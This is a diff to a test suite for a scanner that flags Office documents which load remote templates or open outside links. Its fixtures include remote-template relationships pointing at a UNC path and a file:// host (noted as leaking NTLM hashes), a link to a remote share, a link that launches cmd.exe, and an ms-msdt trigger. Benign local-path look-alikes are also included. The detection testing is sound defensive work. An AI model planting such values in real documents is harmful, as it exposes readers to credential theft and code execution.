@@ -410,7 +410,52 @@ describe('active-content: Office documents that load or run something from outsi
       docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'ms-msdt:/id PCWDiagnostic') }),
       ['office-remote'],
     ],
-    // Look-alikes: ordinary links to the web, an internal template, a local image.
+    [
+      'a template on another machine, by UNC path (it also sends the NTLM hash)',
+      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', '\\\\203.0.113.9\\s\\t.dotm') }),
+      ['office-remote'],
+    ],
+    [
+      'a template at file://host/',
+      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', 'file://203.0.113.9/s/t.dotm') }),
+      ['office-remote'],
+    ],
+    [
+      'a hyperlink to a share on another machine',
+      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'file:////203.0.113.9/s/x.docx') }),
+      ['office-remote'],
+    ],
+    [
+      "a hyperlink that starts a program on the reader's disk",
+      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'file:///C:/Windows/System32/cmd.exe') }),
+      ['office-remote'],
+    ],
+    // Look-alikes: ordinary links to the web, an internal template, a local image; the local
+    // template path and file links Word writes into documents made from a template on the
+    // author's disk.
+    [
+      "a template on the author's disk",
+      docx({
+        'word/_rels/settings.xml.rels': rel(
+          'attachedTemplate',
+          'file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotm',
+        ),
+      }),
+      [],
+    ],
+    [
+      'a template by drive path, and one at file://localhost/',
+      docx({
+        'word/_rels/settings.xml.rels': rel('attachedTemplate', 'C:\\Templates\\Report.dotx'),
+        'word/_rels/document.xml.rels': rel('attachedTemplate', 'file://localhost/C:/t/Memo.dotx'),
+      }),
+      [],
+    ],
+    [
+      "a hyperlink to a spreadsheet on the author's disk",
+      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'file:///C:/Reports/q3.xlsx') }),
+      [],
+    ],
     [
       'ordinary external hyperlinks',
       docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'https://example.com/terms') }),
